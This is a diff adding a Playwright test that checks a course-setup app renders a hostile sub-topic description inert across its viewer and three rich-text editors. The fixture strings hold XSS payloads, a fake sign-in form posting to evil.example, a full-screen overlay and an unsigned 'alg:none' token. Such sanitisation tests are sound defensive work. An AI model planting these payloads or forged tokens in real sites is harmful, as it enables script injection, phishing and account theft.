@@ -1,0 +1,97 @@
+import type { Page } from '@playwright/test';
+import { panel } from './courseForms';
+import { expect, fillSignIn, test } from './support';
+
+// A server of somebody else's, which stores what it is sent.
+test.use({ config: { mode: 'http' } });
+
+const hostile = [
+  '<h2>Forests</h2>',
+  '<img src="x" onerror="document.title=\'taken\'">',
+  '<script>document.title="taken"</script>',
+  '<svg onload="document.title=\'taken\'"><a href="javascript:document.title=1">svg</a></svg>',
+  '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
+  '<a href="javascript:document.title=\'taken\'">link</a>',
+  '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
+  '<style>body { display: none }</style>',
+  '<p style="position: fixed; inset: 0; background: url(https://evil.example/x); text-align: center">Centre</p>',
+].join('');
+
+const names = {
+  category_name: 'Forest Service',
+  course_name: 'Ranger',
+  subcourse_name: 'First paper',
+  main_topic_title: 'Forest law',
+  lesson_title: 'The Forest Act',
+  instructor_name: null,
+};
+const stamps = { created_by: null, created_date: null, modified_by: null, modified_date: null, modified_remarks: null };
+const video = {
+  host_type: null,
+  video_type: null,
+  video_url: null,
+  em_video_url: null,
+  mob_video_url: null,
+  video_duration: null,
+  preview_status: null,
+  preview_video_url: null,
+};
+const subTopic = {
+  ...{ iid: 1, topic_title: 'Forests', slug: 'forests', lesson_iid: 1, instructor_iid: 1, sub_topic_order: 1 },
+  ...{ page_type: 'plain_text', sub_topic_desc: hostile, resource_url: null },
+  ...names,
+  ...stamps,
+  ...video,
+};
+
+const endless = ['{"alg":"none"}', '{"exp":4102444800}', ''].map((part) => Buffer.from(part).toString('base64url')).join('.');
+const answers: Readonly<Record<string, unknown>> = {
+  login: { tokens: { access: endless, refresh: endless }, email: 'staff@coursedesk.test', first_name: 'A', is_staff: true },
+  menu: [],
+  getCourseTree: [],
+  getSubTopicOrderSelect: [1],
+  fetchInstructorSelect: [{ iid: 1, instructor_name: 'Ramesh Koirala' }],
+};
+
+/** Opens a screen of a sub topic whose description is hostile, in the editor that it was written with. */
+async function open(page: Page, path: string, editor: string): Promise<void> {
+  const known = { ...answers, viewSubTopicDetails: { ...subTopic, description_editor_type: editor } };
+  await page.route('**/*', async (route) => {
+    const request = route.request();
+    const { pathname } = new URL(request.url());
+    const [, data] = Object.entries(known).find(([name]) => pathname.split('/').includes(name)) ?? [];
+    const isCall = ['fetch', 'xhr'].includes(request.resourceType()) && data !== undefined;
+    await (isCall ? route.fulfill({ json: { data, msg: 'ok' } }) : route.continue());
+  });
+  await page.goto(`/login?next=${encodeURIComponent(path)}`);
+  await fillSignIn(page);
+}
+
+/** What was to run did not, and nothing that could deceive or disturb is there. */
+async function expectInert(page: Page, place: ReturnType<typeof panel>): Promise<void> {
+  await expect(place.getByText('Centre')).toBeVisible();
+  await expect(place.getByText('Centre')).not.toHaveCSS('position', 'fixed');
+  await expect(place).toContainText('link');
+  await expect(place.locator('[name=password], [onerror], [onload], iframe, script, style')).toHaveCount(0);
+  await expect(place.locator('[href^="javascript"]')).toHaveCount(0);
+  await expect(page).toHaveTitle(/^Course Setup/);
+  await expect(page.locator('body')).toBeVisible();
+}
+
+test('a hostile description is shown inert, and keeps its harmless styles', async ({ page }) => {
+  await open(page, '/coursesetup/viewSubTopicDetails/forests', 'ck');
+  const details = panel(page, 'Sub Topic Details');
+  await expectInert(page, details);
+  await expect(details.getByText('Centre')).toHaveCSS('text-align', 'center');
+  await expect(details.getByRole('heading', { name: 'Forests' })).toBeVisible();
+});
+
+for (const editor of ['ck', 'quill', 'jodit']) {
+  test(`a hostile description is edited inert in ${editor}`, async ({ page }) => {
+    await open(page, '/coursesetup/editSubTopic/forests', editor);
+    const form = panel(page, 'Edit Sub Topic');
+    const text = form.getByRole('textbox', { name: 'Description' });
+    await expect(text).toContainText('Forests');
+    await expectInert(page, form);
+  });
+}
